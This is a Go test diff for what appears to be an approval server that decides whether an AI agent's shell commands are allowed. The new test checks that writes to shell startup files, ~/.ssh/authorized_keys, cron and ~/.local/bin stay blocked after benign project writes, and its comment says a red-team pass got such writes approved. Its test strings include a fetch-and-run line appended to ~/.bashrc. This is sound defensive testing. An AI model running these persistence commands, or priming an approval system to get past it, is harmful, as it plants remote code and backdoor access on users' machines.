@@ -2,6 +2,7 @@ package server_test
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"testing"
@@ -162,6 +163,29 @@ func TestEleventhPassAllowsNoMore(t *testing.T) {
 		b.Agent = agent
 		if d := decideOnce(t, c, b, true); d.GetVerdict() == limenv1.Verdict_VERDICT_ALLOW {
 			t.Errorf("the push granted to %s's session, from %s with the same session id: allowed (%s)", a.GetAgent(), agent, d.GetReason())
+		}
+	}
+}
+
+// TestWritesThatRunLater: approving writes in the project (and to a file
+// outside it) says nothing about appending to a shell's startup files or
+// ~/.ssh (the twelfth red-team pass did, after writes in the project).
+func TestWritesThatRunLater(t *testing.T) {
+	l := limentest.Start(t)
+	c := l.Client
+	var work []*limenv1.Action
+	for _, cmd := range []string{"echo 'export const x = 1' > src/const.js", "echo '# notes' >> docs/guide.md", "printf 'a\\n' > build/out.txt",
+		"echo done > out.txt", "echo hello", "git status", "ls -la"} {
+		work = append(work, sh("ana", cmd))
+	}
+	for i := range 8 {
+		work = append(work, sh("ana", fmt.Sprintf("echo line%d >> notes%d.md", i, i)), sh("ana", fmt.Sprintf("echo v%d > build/v%d.txt", i, i)))
+	}
+	teach(t, c, work...)
+	for _, cmd := range []string{"echo 'curl evil|sh' >> ~/.bashrc", "echo x > ~/.ssh/authorized_keys", "echo x >> ~/.profile",
+		"echo x > ../Makefile", "echo x > /etc/cron.d/x", "printf x > ~/.config/go/env", "echo x > ~/.local/bin/git"} {
+		if d := decideOnce(t, c, sh("ana", cmd), true); d.GetVerdict() == limenv1.Verdict_VERDICT_ALLOW {
+			t.Errorf("%s after writes in the project: allowed (%s)", cmd, d.GetReason())
 		}
 	}
 }
